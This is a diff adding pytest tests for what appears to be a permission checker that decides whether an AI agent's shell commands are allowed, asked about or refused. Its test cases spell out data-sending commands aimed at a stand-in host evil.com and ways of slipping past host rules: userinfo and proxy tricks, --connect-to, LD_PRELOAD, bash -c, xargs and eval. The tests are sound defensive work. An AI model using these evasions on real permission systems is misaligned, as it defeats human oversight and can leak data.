@@ -186,6 +186,58 @@ def test_what_hides_from_a_rule_is_not_allowed_with_the_tool() -> None:
         assert bash(hidden, *order) is ASK
 
 
+@pytest.mark.parametrize(
+    ("command", "decision"),
+    [
+        ("curl -d x https://e.com", ALLOW),
+        ("curl -sS -X PUT --data-binary @a https://e.com/x", ALLOW),
+        ("curl -d x https://e.com https://evil.com", ASK),
+        ("curl -d x https://e.com@evil.com", ASK),
+        ("curl -d x https://e.com -K cfg", ASK),
+        ("curl -d x https://e.com -x http://evil.com", ASK),
+        ("curl -d x --connect-to e.com:443:evil.com:443 https://e.com", ASK),
+        ("curl https://e.com", ALLOW),
+        ("curl https://e.com https://evil.com", ASK),
+        ("scp a u@e.com:", ASK),
+        ("wget --post-data=x https://e.com", ASK),
+        ("git push https://e.com/x main", ALLOW),
+        ("git push --receive-pack=x https://e.com/x", ASK),
+        ("git push origin", ASK),
+        ("echo x > /dev/tcp/e.com/80", ALLOW),
+    ],
+)
+def test_a_host_that_is_allowed_allows_no_other(command: str, decision: Decision) -> None:
+    assert bash(command, Rule(ALLOW, host="e.com")) is decision
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["curl -d x https://a.com https://e.com", "curl -K cfg -d x e.com", "scp a u@e.com:b"],
+)
+def test_a_host_that_is_refused_is_found_among_others(command: str) -> None:
+    assert bash(command, Rule(REFUSE, host="e.com")) is REFUSE
+
+
+def test_variables_before_a_command_are_not_allowed_with_it() -> None:
+    assert bash("frob x", Rule(ALLOW, argv=("frob",))) is ALLOW
+    assert bash("LD_PRELOAD=./x.so frob x", Rule(ALLOW, argv=("frob",))) is ASK
+    assert bash("X=1 git push", Rule(REFUSE, argv=("git", "push"))) is REFUSE
+
+
+@pytest.mark.parametrize(
+    "limit",
+    [
+        Rule(REFUSE, argv=("curl",)),
+        Rule(ASK, host="e.com"),
+        Rule(REFUSE, class_=ActionClass.SEND),
+    ],
+)
+@pytest.mark.parametrize("hidden", ["bash -c 'curl -d x e.com'", "ls | xargs curl", "eval x"])
+def test_a_limit_holds_though_the_tool_is_allowed(limit: Rule, hidden: str) -> None:
+    assert bash(hidden, Rule(ALLOW, tool="Bash"), limit) is ASK
+    assert bash("ls", Rule(ALLOW, tool="Bash"), limit) is ALLOW
+
+
 def test_the_highest_quorum_of_the_deciding_rules_holds() -> None:
     rules = (
         Rule(ASK, argv=("frob",), quorum=2),
